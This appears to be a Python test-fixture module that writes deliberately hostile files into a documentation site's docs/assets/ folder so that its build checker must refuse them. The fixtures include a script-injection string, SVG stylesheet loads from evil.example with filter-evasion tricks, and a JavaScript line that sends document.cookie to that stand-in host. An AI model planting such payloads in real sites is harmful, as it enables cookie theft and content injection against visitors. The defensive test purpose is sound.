"""Editor mistakes (and attacks) in docs/assets/: what the site publishes from there (images only).

Each `make(docs)` makes one mistake in a copy's docs/, found by the folder's
contents (an image the site has), never by today's wording, and
returns the exact lines the build must print. tests/test_editor_errors.py adds
them to its MISTAKES, and CONTRIBUTING.md's table must explain each message.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

Make = Callable[[Path], list[str]]

ATTACK = '<script>alert(document.domain)</script><img src="https://evil.example/x.png">'
ASSET_TYPES = (
    "only images (.png, .jpg, .jpeg, .gif, .webp, .avif, .svg, .ico) belong there. Move this file out of "
    "docs/ or delete it."
)
SVG_FIX = "Export the drawing again as a plain SVG (in Inkscape: Save As, Optimized SVG or Plain SVG)."
NO_CSS = (
    'a drawing holds no CSS, only presentation attributes (`fill="#1a3668"`, `stroke=…`). Write each '
    "property as an attribute, or export the drawing again as an Optimized SVG (in Inkscape: Save As, "
    "Optimized SVG, with “Convert CSS attributes to XML attributes”)."
)
STYLE_ELEMENT = f"this SVG file has a `<style>` element: {NO_CSS}"
SVG_START = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 8 8">'
)


def not_published(rel: str, ending: str) -> str:
    return f"docs/{rel}: a file of this type ({ending}) is not published from docs/assets/: {ASSET_TYPES}"


def svg_refers(address: str) -> str:
    return f"this SVG file refers to `{address}`: a drawing may only refer to its own parts (`#…`). {SVG_FIX}"


def web_pages_in_assets(docs: Path) -> list[str]:
    """Pages of HTML published as they are, on the site's address, without its CSP; an image in
    capitals (any case is the same type) is published."""
    for name in ("evil.html", "evil.xhtml", "evil.HTM"):
        (docs / "assets" / name).write_text(ATTACK, encoding="utf-8")
    image = next(path for path in sorted((docs / "assets").rglob("*")) if path.suffix == ".svg")
    (docs / "assets" / "CARTE.SVG").write_bytes(image.read_bytes())
    return [
        not_published("assets/evil.HTM", ".htm"),
        not_published("assets/evil.html", ".html"),
        not_published("assets/evil.xhtml", ".xhtml"),
    ]


def svg_lines(name: str, *lines: str) -> Callable[[Path], Path]:
    """A drawing docs/assets/<name>: its first line opens it, then `lines`, then a shape and its end
    (each mistake's drawing has a name of its own, so that they can share a build)."""

    def write(docs: Path) -> Path:
        path = docs / "assets" / name
        path.write_text(
            "\n".join([SVG_START, *lines, '<rect width="8" height="8" fill="#1a3668"/>', "</svg>", ""]),
            encoding="utf-8",
        )
        return path

    return write


def svg_processing_instruction(docs: Path) -> list[str]:
    path = docs / "assets" / "carte-instruction.svg"
    path.write_text(
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<?xml-stylesheet href="https://evil.example/x.css"?>\n'
        f'{SVG_START}\n<rect width="8" height="8"/>\n</svg>\n',
        encoding="utf-8",
    )
    return [
        "docs/assets/carte-instruction.svg:2: this SVG file has a processing instruction "
        "`<?xml-stylesheet …?>`, which "
        f"can load a stylesheet. {SVG_FIX}"
    ]


def svg_style_elements(docs: Path) -> list[str]:
    """CSS, however written: an `@import`, and what a list of what to refuse would miss (text in
    pieces, an address over lines, no `url(`)."""
    svg_lines(
        "carte-style.svg",
        "<style>@import url(https://evil.example/x.css);</style>",
        '<style>@imp<![CDATA[]]>ort "https://evil.example/a.css";</style>',
        "<style>rect { fill: url(",
        "https://evil.example/b.svg#x",
        ") }</style>",
        '<style>rect { fill: image-set("https://evil.example/c.png" 1x) }</style>',
    )(docs)
    return [f"docs/assets/carte-style.svg:{line}: {STYLE_ELEMENT}" for line in (2, 3, 4, 7)]


def svg_style_attribute(docs: Path) -> list[str]:
    svg_lines(
        "carte-style-attribute.svg",
        '<rect width="4" height="4" style="fill:u\\72l(https://evil.example/d.svg#x)"/>',
    )(docs)
    return [
        f"docs/assets/carte-style-attribute.svg:2: this SVG file has a `style` attribute on `<rect>`: "
        f"{NO_CSS}"
    ]


def svg_attribute_addresses(docs: Path) -> list[str]:
    """Presentation attributes are read as CSS: an escaped `url(`, an image-set, are addresses too;
    a part of the same drawing is not refused."""
    svg_lines(
        "carte-addresses.svg",
        '<defs><linearGradient id="g"/></defs><rect width="4" height="4" fill="url(#g)"/>',
        '<rect width="4" height="4" fill="u\\72l(https://evil.example/d.svg#x)"/>',
        '<rect width="4" height="4" mask="image-set(&quot;https://evil.example/c.png&quot; 1x)"/>',
    )(docs)
    return [
        f"docs/assets/carte-addresses.svg:3: {svg_refers('https://evil.example/d.svg#x')}",
        f"docs/assets/carte-addresses.svg:4: {svg_refers('https://evil.example/c.png')}",
    ]


def code_in_assets(docs: Path) -> list[str]:
    """A stylesheet and a script saved in docs/assets/: pages could load them (the site's own are the
    theme's, in overrides/assets/), so they are refused, named, as any other type but images."""
    (docs / "assets" / "stylesheets").mkdir(parents=True, exist_ok=True)
    (docs / "assets" / "stylesheets" / "extra.css").write_text(
        "@import url(https://evil.example/x.css);\n", encoding="utf-8"
    )
    (docs / "assets" / "suivi.JS").write_text("fetch('https://evil.example/?' + document.cookie)\n", "utf-8")
    # An empty `.gitkeep` keeps a folder in git and is never published: allowed. One that holds
    # something is a file like any other, of no image type.
    (docs / "assets" / "stylesheets" / ".gitkeep").write_bytes(b"")
    (docs / "assets" / ".gitkeep").write_text(ATTACK, encoding="utf-8")
    return [
        not_published("assets/.gitkeep", "no ending"),
        not_published("assets/stylesheets/extra.css", ".css"),
        not_published("assets/suivi.JS", ".js"),
    ]


ASSETS_MISTAKES: list[tuple[str, Make]] = [
    ("web pages in docs/assets/", web_pages_in_assets),
    ("SVG asset with an xml-stylesheet instruction", svg_processing_instruction),
    ("SVG asset with CSS in style elements", svg_style_elements),
    ("SVG asset with a style attribute", svg_style_attribute),
    ("SVG asset with addresses in presentation attributes", svg_attribute_addresses),
    ("a stylesheet and a script in docs/assets/", code_in_assets),
]
